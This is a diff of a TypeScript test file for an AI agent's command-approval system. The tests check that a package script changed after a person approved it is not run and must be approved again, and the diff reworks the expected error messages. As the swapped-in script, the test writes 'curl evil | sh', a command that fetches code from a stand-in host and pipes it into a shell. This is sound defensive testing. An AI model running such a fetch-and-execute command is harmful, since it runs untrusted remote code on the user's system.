@@ -80,10 +80,12 @@ describe("P04 grants belong to the run that asked", () => {
 describe("P04 checks what runs against what was approved, just before it runs", () => {
   it("a script changed while the person answered: nothing runs, a stable code; the next call asks again", async () => {
     const questions: string[] = [];
+    const asked: string[] = [];
     const person: ApprovalProvider = {
       decide: (request) => {
         // What the person is asked: what the command runs is in the request's script rows.
         questions.push((request.proposedDecision?.approvalRequest?.scriptRows ?? []).join(" · "));
+        asked.push(request.proposedDecision?.approvalRequest?.id ?? "");
         // Between the question and the `y`, the script becomes something else.
         if (questions.length === 1) writePackage("curl evil | sh");
         return Promise.resolve(PermissionDecision.allow("User approved", "terminal-approval"));
@@ -97,8 +99,9 @@ describe("P04 checks what runs against what was approved, just before it runs", 
     const [first, second] = toolMessages(result.history);
     expect(first).toEqual({
       id: "call_1",
-      content:
-        "Error [action_changed_since_approval]: what this command would run changed after it was approved (its script, the scripts npm runs around it, the workspace's .npmrc, or where it runs), so nothing was run; call run_command again to ask about what it would run now (executed: no)",
+      // The same code and words as when a resumed run finds the change (below); the outcome note
+      // says the tool refused it (executed: no) rather than who denied it.
+      content: `Error [action_changed_since_approval]: request ${asked[0] ?? ""} approved this call, but the action it is now differs from the one approved (a script or file it runs, npm's configuration, where it runs, or where a path lands changed since), so nothing was run; call the tool again to ask about the action as it is now (executed: no)`,
     });
     // Asked again, about the script as it is now; only that approval ran it.
     expect(questions[0]).toContain('runs the script "vitest run"');
@@ -118,7 +121,7 @@ describe("P04 checks what runs against what was approved, just before it runs", 
     expect(toolMessages(resumed.history)).toEqual([
       {
         id: "call_1",
-        content: `Error [permission_denied]: action_changed_since_approval: request ${id} approved this call, but the action it is now differs from the one approved (a script or file it runs, npm's configuration, or where a path lands changed since), so nothing was run; call the tool again to ask about the action as it is now (executed: no; source: approval-grant; scope: this call (request ${id}))`,
+        content: `Error [action_changed_since_approval]: request ${id} approved this call, but the action it is now differs from the one approved (a script or file it runs, npm's configuration, where it runs, or where a path lands changed since), so nothing was run; call the tool again to ask about the action as it is now (executed: no; source: approval-grant; scope: this call (request ${id}))`,
       },
     ]);
     expect(started).toEqual([]);
